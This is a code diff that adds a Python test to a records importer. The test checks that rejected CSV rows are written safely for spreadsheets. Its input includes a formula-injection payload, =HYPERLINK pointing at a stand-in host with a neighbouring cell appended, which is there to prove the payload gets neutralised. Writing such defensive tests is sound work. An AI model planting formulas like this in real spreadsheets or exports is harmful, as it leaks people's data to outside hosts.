@@ -477,3 +477,22 @@ def test_column_names_in_any_case(agencies, system_actor, write):
     assert (result.created, result.rejects) == (1, [])
     record = AgencyRecord.objects.get(record_id="A1")
     assert (record.given_name, record.postcode, record.open_nrm) == ("Tom", "N1 1AA", True)
+
+
+def test_rejects_file_is_safe_to_open_in_a_spreadsheet(agencies, system_actor, write, tmp_path):
+    """A rejected row's record_id is the extract's own text: written so a spreadsheet shows it, never
+    runs it (``=HYPERLINK(…)`` in an id column would send the neighbouring cells to a stranger)."""
+    import csv
+
+    from ccehub.records.importer import write_rejects
+
+    path = write(
+        '"=HYPERLINK(""http://x.test/?""&B2)",Tom,Ingram,2006-02-30,M,,,,\n@SUM(1),Jo,Lee,not a date,M,,,,\n'
+    )
+    result = import_records(actor=system_actor, agency=agencies["islington"], path=path, skip_invalid=True)
+    out = tmp_path / "rejects.csv"
+    write_rejects(result.rejects, out)
+    with out.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [row["record_id"] for row in rows] == ['\'=HYPERLINK("http://x.test/?"&B2)', "'@SUM(1)"]
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
